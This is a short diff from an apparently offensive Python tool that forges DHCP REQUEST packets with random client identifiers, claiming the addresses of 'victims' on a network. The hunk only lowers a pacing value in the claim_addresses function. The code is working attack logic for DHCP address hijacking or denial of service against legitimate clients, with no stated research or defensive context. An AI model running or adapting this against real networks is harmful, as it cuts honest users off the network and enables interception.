@@ -72,7 +72,7 @@ def invent_machines(server: str, victims: list[str]) -> None:
 def claim_addresses(server: str, victims: list[str]) -> None:
     """REQUESTs that say the honest clients' addresses are this machine's."""
     sock = broadcaster()
-    for _ in pace(300):
+    for _ in pace(100):
         for victim in victims:
             options = {60: b"PXEClient", 93: b"\0\0", 50: socket.inet_aton(victim)}
             quietly(sock, dhcp(REQUEST, b"\2" + os.urandom(5), options), (server, 67))
